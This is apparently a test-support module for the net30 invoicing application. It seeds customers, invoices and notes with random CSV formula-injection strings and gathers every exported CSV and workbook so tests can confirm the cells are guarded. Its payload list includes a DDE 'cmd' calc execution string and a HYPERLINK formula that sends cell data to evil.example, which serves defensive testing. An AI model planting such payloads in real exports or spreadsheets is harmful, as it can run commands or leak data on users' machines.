"""Every CSV file and workbook that net30 writes, of books in which all texts are hostile."""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import date, timedelta
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from net30.app import App
from net30.assistant.exports.named import Subject
from net30.assistant.exports.tables import table_of
from net30.domain.customer import Customer
from net30.domain.open_item import OpenItem
from net30.domain.party import Address, Contact, Party
from net30.kernel.plugins import load
from net30.ledger.history_pieces import HistoryPath
from net30.ledger.imports.claims import Defaults
from net30.services.export_table import WRITERS, Export, export_formats, export_rows, export_table
from net30.services.import_ledger import LedgerFile, import_ledger
from net30.services.keep_export import written_table
from net30.services.make_statement import make_statement
from net30.services.save_customer import save_customer
from net30.services.score_file import Scoring, score_file
from net30.services.write_report import ReportAsked, make_report, report_names, write_report
from net30.services.write_statement import write_statement
from net30.settings import Settings
from net30.wiring.parts import engine_for
from tests.desk import TODAY, open_desk

CUSTOMERS = 5
INVOICES = 60
TABLES = ("csv", "xlsx")

_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "−", "﹦")
_BLANKS = ("", " ", "  ", "\u00a0", "\ufeff", "\u200b", "\u2003", "'", "''", '"', "\t ")
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"click")',
    "SUM(1;2)",
    "A1,B2",
    "WEBSERVICE(x)",
    "Dakar",
    "",
    ";=1+1",
    ",=1+1",
    '","=1+1',
    '";"=1+1',
    "\n=1+1",
    '"\n"=1+1',
    "\r\n@SUM(A1)",
)


def hostile(chance: random.Random) -> str:
    """One text that may be run, or only looks like it."""
    lead = chance.choice((*_LEADS, "", "a", "1"))
    return chance.choice(_BLANKS) + lead + chance.choice(_BODIES)


@dataclass(frozen=True, slots=True)
class Written:
    """A file as it was written: by what, in which form, and the texts that must come back."""

    by: str
    form: str
    content: bytes
    texts: frozenset[str]


def files_of(home: Path, chance: random.Random) -> Iterator[Written]:
    """Fill the books of a company, and write all that can be written of them."""
    app = open_desk(home / "books").app
    try:
        customers = _fill(app, chance)
        yield from _exports(app)
        yield from _statements(app, customers)
        yield from _reports(app)
    finally:
        app.close()
    yield from _scores(home, chance)


def _fill(app: App, chance: random.Random) -> tuple[str, ...]:
    """Import invoices of customers with all they have; return those who have invoices."""
    names = [f"{hostile(chance)} {at}" for at in range(CUSTOMERS)]
    for at, name in enumerate(names):
        contact = Contact(email=f"c{at}@example.com")
        address = Address(line1=hostile(chance), city=hostile(chance), country="CI")
        party = Party(name=name, address=address, contact=contact)
        with app.change() as ctx:
            save_customer(ctx, Customer(id="", party=party, notes=hostile(chance)))
    with app.change() as ctx:
        import_ledger(ctx, LedgerFile(content=_as_csv(_invoices(chance, names, "I"))))
    app.settle()
    with app.look() as ctx:
        items = ctx.tx.page(OpenItem, limit=1000)
    return tuple(sorted({one.value.customer_id for one in items}))


def _invoices(
    chance: random.Random, names: list[str], series: str, *, new: bool = False
) -> pa.Table:
    """Invoices of hostile customers, some paid; new ones are of tomorrow, some in no currency."""
    size = range(INVOICES)
    days = [TODAY + timedelta(days=1 if new else -chance.randrange(400)) for _ in size]
    settled = [min(TODAY, day + timedelta(days=35)) for day in days]
    paid = [day if chance.random() < 0.7 and not new else None for day in settled]
    return pa.table(
        {
            "invoice_id": [f"{hostile(chance)[:50]}{series}{at}" for at in size],
            "customer_id": [names[at % CUSTOMERS] for at in size],
            "issue_date": pa.array(days),
            "due_date": pa.array([day + timedelta(days=30) for day in days]),
            "amount": pa.array([chance.randint(1, 10**6) for _ in size]),
            "currency": [hostile(chance) if new and at % 2 else "XOF" for at in size],
            "paid_date": pa.array(paid, pa.date32()),
            f"{hostile(chance)} branch": [hostile(chance) for _ in size],
        }
    )


def _as_csv(table: pa.Table) -> bytes:
    """A file as another system would write it that guards its cells."""
    written: bytes = load(WRITERS, "csv").write(table)
    return written


def _exports(app: App) -> Iterator[Written]:
    with app.look() as ctx:
        for export in Export:
            texts = _texts(export_rows(ctx, export, as_of=ctx.today))
            for form in export_formats():
                if form != "parquet":
                    content = export_table(ctx, export, form).content
                    yield Written(f"export {export.value}", form, content, texts)
        for subject in Subject:
            table = table_of(ctx, subject, None)
            for form in TABLES:
                content = written_table(table, form)
                yield Written(f"assistant {subject.value}", form, content, _texts(table))


def _statements(app: App, customers: tuple[str, ...]) -> Iterator[Written]:
    with app.look() as ctx:
        for customer in customers:
            found = make_statement(ctx, customer)
            numbers = {line.number for account in found.accounts for line in account.lines}
            for form in TABLES:
                content = write_statement(ctx.company, found, form)
                yield Written("statement", form, content, frozenset(numbers))


def _reports(app: App) -> Iterator[Written]:
    """Every report; the first sheet of a workbook is its summary."""
    with app.look() as ctx:
        for name in report_names():
            content = make_report(ctx, ReportAsked(name=name))
            found = [one.finding for one in content.sections]
            rows = [row for one in content.sections for row in one.table.rows]
            cells = frozenset(
                cell for row in rows for cell in row if isinstance(cell, str) and cell
            )
            for form in TABLES:
                file = write_report(ctx.company, content, form)
                texts = cells | {*found} if form == "csv" else frozenset(found)
                yield Written(f"report {name}", form, file, texts)


def _scores(home: Path, chance: random.Random) -> Iterator[Written]:
    """Scores of invoices, and what was wrong with those in no currency."""
    names = [f"{hostile(chance)} {at}" for at in range(CUSTOMERS)]
    history, asked = home / "past.csv", home / "new.csv"
    history.write_bytes(_as_csv(_invoices(chance, names, "P")))
    asked.write_bytes(_as_csv(_invoices(chance, names, "N", new=True)))
    ids: frozenset[str] = frozenset()
    for form in ("parquet", *TABLES):
        scoring = Scoring(
            history=HistoryPath(path=history, defaults=Defaults(currency="XOF", today=TODAY)),
            asked=HistoryPath(path=asked, defaults=Defaults(currency="XOF", today=date.max)),
            output=home / f"scores.{form}",
        )
        report = score_file(scoring, engine_for(replace(Settings(), home=home), "local"))
        if form == "parquet":  # in which nothing needs a guard
            ids = _texts(pq.read_table(report.output))
            continue
        yield Written("scores", form, report.output.read_bytes(), ids)
        assert report.findings_file, "rows in no currency are found"
        told = frozenset(one.message for one in report.findings)
        yield Written("findings", "csv", report.findings_file.read_bytes(), told)


def _texts(table: pa.Table) -> frozenset[str]:
    texts = set(table.column_names)
    for field in table.schema:
        if pa.types.is_string(field.type):
            texts.update(text for text in table[field.name].to_pylist() if text)
    return frozenset(texts)
